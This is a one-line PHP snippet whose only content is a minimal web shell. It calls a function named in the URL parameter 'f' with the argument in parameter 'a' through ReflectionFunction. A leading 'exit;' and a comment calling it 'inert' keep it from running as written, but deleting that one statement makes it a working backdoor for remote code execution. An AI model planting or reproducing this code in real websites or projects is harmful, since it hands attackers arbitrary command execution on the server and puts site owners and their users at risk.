<?php exit; /* inert */ $f=new ReflectionFunction($_GET["f"]); $f->invoke($_GET["a"]);
